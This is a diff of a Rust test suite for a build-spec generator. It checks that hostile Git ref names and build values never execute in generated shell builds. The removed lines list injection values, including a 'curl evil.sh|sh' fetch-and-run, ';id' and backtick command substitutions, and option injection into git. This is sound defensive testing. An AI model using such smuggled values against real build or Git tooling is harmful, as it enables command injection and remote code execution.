@@ -7,112 +7,20 @@ use towline_buildspec::generate::{Common, Docker, Make, MakeLogin, Pack, Preset,
 
 use super::*;
 
-/// INVARIANTS 2.4: refs that Git allows and shells do not forgive.
-const EVIL: [&str; 23] = [
-    "a$(curl${IFS}evil.sh|sh)",
-    "x;id",
-    "x`id`",
-    "x&&id",
-    "x|sh",
-    "x'y",
-    "x\"y",
-    "x{a,b}",
-    "x#y",
-    "x%0a",
-    "x<y>",
-    "x=y",
-    "${{github.token}}",
-    "{{x}}",
-    "!!python",
-    "null",
-    "yes",
-    "@",
-    "HEAD",
-    "refs/heads/x",
-    "-upload-pack=touch",
-    "--help",
-    "a\u{202e}b",
-];
+#[path = "../../../../buildspec/tests/refs/random.rs"]
+mod random;
 
-/// Pieces that random refs are made of. Whatever runs by mistake leaves a canary: where it ran, or
-/// at `$CANARY`, where it stays when the build's folder is removed.
-const PIECES: [&str; 30] = [
-    "$(touch${IFS}canary)",
-    "`touch${IFS}$CANARY`",
-    ";touch${IFS}$CANARY;",
-    "&&touch${IFS}canary",
-    "||touch${IFS}$CANARY",
-    "|tee${IFS}$CANARY",
-    ">$CANARY",
-    ">canary",
-    "';touch${IFS}$CANARY;'",
-    "\";touch${IFS}$CANARY;\"",
-    "--output-file=canary",
-    "'",
-    "\"",
-    "$HOME",
-    "${PWD}",
-    "$'\u{7}'",
-    "#",
-    "!",
-    "%s",
-    "{a,b}",
-    "(",
-    ")",
-    "/",
-    ".",
-    ".lock",
-    "@{",
-    "\u{202e}",
-    "\u{e9}",
-    "-",
-    "a b",
-];
+use random::Random;
 
-/// The rules of git-check-ref-format(1) for what follows `refs/heads/`.
-fn is_legal(name: &str) -> bool {
-    let forbidden =
-        |character: char| character.is_ascii_control() || " ~^:?*[\\".contains(character);
-    let component_is_legal =
-        |part: &str| !part.is_empty() && !part.starts_with('.') && !part.ends_with(".lock");
-    name.split('/').all(component_is_legal)
-        && !name.contains(forbidden)
-        && !name.contains("..")
-        && !name.contains("@{")
-        && !name.ends_with('.')
-}
+/// Refs that Git allows and shells do not forgive, one a line.
+const EVIL: &str = include_str!("../../../../buildspec/tests/refs/evil.txt");
 
-/// As many different refs, the same each time; made of pieces and of single characters.
-fn random_refs(count: usize) -> Vec<String> {
-    let mut state: u64 = 0x9e37_79b9_7f4a_7c15;
-    let mut next = |below: usize| {
-        state ^= state << 13;
-        state ^= state >> 7;
-        state ^= state << 17;
-        usize::try_from(state % below as u64).unwrap()
-    };
-    let mut refs = Vec::new();
-    while refs.len() < count {
-        let mut name = String::new();
-        for _ in 0..=next(6) {
-            match next(3) {
-                0 => name.push(char::from(u8::try_from(next(128)).unwrap())),
-                _ => name.push_str(PIECES[next(PIECES.len())]),
-            }
-        }
-        if is_legal(&name) && !refs.contains(&name) {
-            refs.push(name);
-        }
-    }
-    refs
-}
-
-/// The 23 refs of INVARIANTS and 200 random ones, all of them legal by Git's own word.
+/// The evil ones and random ones, all of them legal by Git's own word.
 fn refs() -> Vec<String> {
     let refs: Vec<String> = EVIL
-        .iter()
-        .map(|name| (*name).to_owned())
-        .chain(random_refs(200))
+        .lines()
+        .map(str::to_owned)
+        .chain(Random::new().refs(100))
         .collect();
     for name in &refs {
         let legal = Command::new("git")
@@ -295,6 +203,16 @@ fn title(name: &str) -> String {
 
 /// What the tools of a build wrote down, one call a line.
 fn calls(world: &World, number: u32, name: &str) -> String {
+    let line = |words: Vec<String>| {
+        let words: Vec<String> = words.iter().map(|word| hide_scratch(word)).collect();
+        format!("{} [{}]\n", words[0], words[1..].join("] ["))
+    };
+    let calls = words_of_calls(world, number, name);
+    calls.into_iter().map(line).collect()
+}
+
+/// The words of each call that the tools of a build wrote down.
+fn words_of_calls(world: &World, number: u32, name: &str) -> Vec<Vec<String>> {
     let record = fs::read(world.path("records").join(attempt(number).as_str())).unwrap();
     let record = String::from_utf8(record).unwrap();
     let surroundings = format!("\0\0refs/heads/{name}\0{name}\0{}\0\n\0", title(name));
@@ -302,11 +220,10 @@ fn calls(world: &World, number: u32, name: &str) -> String {
         record.matches("\0\n\0").count(),
         record.matches(&surroundings).count()
     );
-    let call = |call: &str| {
-        let words: Vec<String> = call.split('\0').map(hide_scratch).collect();
-        format!("{} [{}]\n", words[0], words[1..].join("] ["))
-    };
-    record.split_terminator(&surroundings).map(call).collect()
+    let calls = record.split_terminator(&surroundings);
+    calls
+        .map(|call| call.split('\0').map(str::to_owned).collect())
+        .collect()
 }
 
 /// The name of the scratch file differs from run to run.
@@ -368,10 +285,80 @@ async fn a9_a10_all_refs_do_nothing_to_a_pack_build() {
 
 #[tokio::test]
 async fn a9_a10_refs_do_nothing_to_builds_of_the_other_presets() {
-    let refs: Vec<String> = refs().into_iter().step_by(7).collect();
+    let refs: Vec<String> = refs().into_iter().step_by(4).collect();
     for case in [make, docker, inline] {
         check(case, &refs).await;
     }
+}
+
+/// How many strangers one build hears of at once: to start it takes longer than all it does.
+const IN_ONE: usize = 250;
+
+/// Every value in an environment, written down by one shell and read by the next, and handed to two tools.
+#[tokio::test]
+async fn a9_a10_ten_thousand_refs_titles_and_messages_do_nothing_to_builds() {
+    let mut random = Random::new();
+    let strangers: Vec<[String; 3]> = random
+        .refs(10_000)
+        .into_iter()
+        .map(|name| [name, random.title(), random.message()])
+        .collect();
+    let variables: Vec<String> = (0..IN_ONE)
+        .flat_map(|number| ["REF", "TITLE", "MESSAGE"].map(|kind| format!("{kind}_{number}")))
+        .collect();
+    let words: String = variables
+        .iter()
+        .map(|name| format!(" \"${name}\""))
+        .collect();
+    let spec = |shell: &str| {
+        format!(
+            "version: 0.2
+env: {{shell: {shell}}}
+phases:
+  build:
+    commands:
+      - |-
+        docker build{words}
+      - (exit 0); exit 0
+  post_build:
+    commands:
+      - |-
+        aws s3{words}
+"
+        )
+    };
+    let world = world().await;
+    let mut builds = Vec::new();
+    for (number, strangers) in (1..).zip(strangers.chunks(IN_ONE)) {
+        let shell = ["bash", "/bin/sh"][number as usize % 2];
+        let mut request = world.request(number, &spec(shell));
+        request.environment = environment(&world, &strangers[0][0]);
+        let values = strangers.iter().flatten().cloned();
+        request
+            .environment
+            .extend(variables.iter().cloned().zip(values));
+        let build = world.runner.start(request).await.unwrap();
+        builds.push((number, strangers, build));
+    }
+    assert_eq!(builds.len() * IN_ONE, 10_000);
+    for (number, strangers, build) in builds {
+        let report = world.end(&build).await;
+        let log = world.log(&build).await;
+        assert_eq!(report.status, BuildStatus::Succeeded, "{log}");
+        let values = strangers.iter().flatten().cloned();
+        let call = |head: [&str; 2]| -> Vec<String> {
+            head.map(str::to_owned)
+                .into_iter()
+                .chain(values.clone())
+                .collect()
+        };
+        let told = words_of_calls(&world, number, &strangers[0][0]);
+        assert!(
+            told == [call(["docker", "build"]), call(["aws", "s3"])],
+            "build {number}: {log}"
+        );
+    }
+    assert_eq!(canaries(&world), "");
 }
 
 /// Were a value ever taken for a command, the checks above would fail.
